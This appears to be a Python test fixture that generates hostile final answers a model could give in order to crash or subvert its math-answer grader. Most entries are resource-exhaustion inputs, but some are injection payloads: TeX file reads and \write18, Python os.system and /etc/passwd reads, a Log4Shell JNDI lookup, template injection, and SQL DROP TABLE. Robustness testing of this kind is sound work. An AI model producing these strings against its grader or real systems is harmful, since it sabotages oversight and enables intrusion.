"""Strings a model could write to hurt its grader."""

from collections.abc import Iterator

FRAMES = ("Answer: {}", "so \\boxed{{{}}}")


def hostile_answers() -> Iterator[str]:
    """Final answers, from short bombs to a million characters."""
    for base, power in (("9", "9"), ("10", "10"), ("e", "9"), ("x", "9"), ("(9)", "(9)"), ("-2", "-9")):
        for joint in ("^", "**", "^{", "^{("):
            for height in (3, 5, 60):
                yield base + (joint + power) * height + "}" * (joint.count("{") * height)
    for name in ("frac{1}", "sqrt", "sqrt[99]", "boxed", "text", "left(", "overline", "exp", "sin", "ln", "binom{9}"):
        for depth in (5, 9, 100, 20_000):
            yield f"\\{name}{{" * depth + "1" + "}" * depth
    for pair in ("()", "[]", "{}", "\\{\\}", "||", "<>"):
        half = len(pair) // 2
        for depth in (9, 1_000, 1_000_000 // len(pair)):
            yield pair[:half] * depth + "1" + pair[half:] * depth
            yield pair[:half] * depth
            yield pair[half:] * depth
    for digits in (41, 5_000, 1_000_000):
        for frame in (
            "{}",
            "-{}.5",
            "0.{}",
            "\\frac{{{}}}{{7}}",
            "{}/{}",
            "{}!",
            "1e{}",
            "\\sqrt{{{}}}",
            "x^{{{}}}",
            "{}\\%",
        ):
            yield frame.format(*["9" * digits] * 2)
    yield from (
        "10^9!",
        "99999999!",
        "9!!!!!",
        "((9!)!)!",
        "(99!)^{99}",
        "\\binom{999999999}{499999999}",
        "1e999999999",
    )
    yield from (
        "((2^{999})^{999})^{999}",
        "2^{999}^{999}",
        "2^{999\\cdot999\\cdot999}",
        "(x+1)^{1999}",
        "(a+b+c)^{99}(d+e)^{99}",
    )
    yield from ("\\sum_{k=1}^{10^9} k^k", "\\prod_{k=1}^{99999} k", "\\int_0^1 x^{x^x} dx", "\\lim_{x\\to0} x^x")
    yield from (
        f"{name}{argument}"
        for name in ("\\input", "\\include", "\\write18", "\\read", "\\openin")
        for argument in ("{/etc/passwd}", " /etc/passwd")
    )
    yield from ("\\def\\a{\\a\\a}\\a", "\\newcommand{\\x}{\\x\\x}\\x", "\\csname a\\endcsname", "\\catcode`\\{=12")
    yield from (
        "__import__('os').system('id')",
        "().__class__.__bases__[0].__subclasses__()",
        "exec(open('/etc/passwd').read())",
        "lambda: (yield)",
        "import os; os._exit(0)",
        "os.kill(os.getppid(), 9)",
        "${jndi:ldap://x/y}",
        "{{7*7}}",
        "%s%n%x" * 100,
        "{0.__class__.__mro__}",
        "%(answer)s",
        "'; DROP TABLE answers; --",
    )
    for unit in (
        "\0",
        "\x1b[2J",
        "\u202e",
        "\u200b",
        "\ufeff",
        "\ud800",
        "\U000e0001",
        "e\u0301",
        "٣",
        "\N{FULLWIDTH DIGIT NINE}",
        "\r",
    ):
        yield unit
        yield unit + "7"
        yield unit * 50_000
    for unit in (
        "a",
        "a a",
        "(a+)+",
        "x=",
        "1,",
        "$",
        "\\$",
        "\\text{a}",
        "\\\\",
        "\\ ",
        "^",
        "_",
        "_{",
        "&",
        "1_",
        "1/",
        "±",
        "\\pm 1",
    ):
        yield unit * 60
        yield unit * 100_000 + "!"
    yield "+".join(f"x_{{{i}}}^{{{i}}}" for i in range(20))
    yield "(" + ",".join("\\sqrt{2}" for _ in range(20)) + ")"
    yield "\\begin{pmatrix}" + "\\\\".join("&".join("x^9" for _ in range(5)) for _ in range(5)) + "\\end{pmatrix}^{99}"
    yield "x^{19}+ax^{18}+bx^{17}+c=0"
    yield "\\sqrt{1+\\sqrt{2+\\sqrt{3+\\sqrt{5+\\sqrt{7}}}}}"
    yield "\\sin(\\cos(\\tan(\\sin(x^{99}))))^{99}"


def hostile_responses() -> list[str]:
    """Each answer in each form that is read as final."""
    return [frame.format(answer) for answer in hostile_answers() for frame in FRAMES]
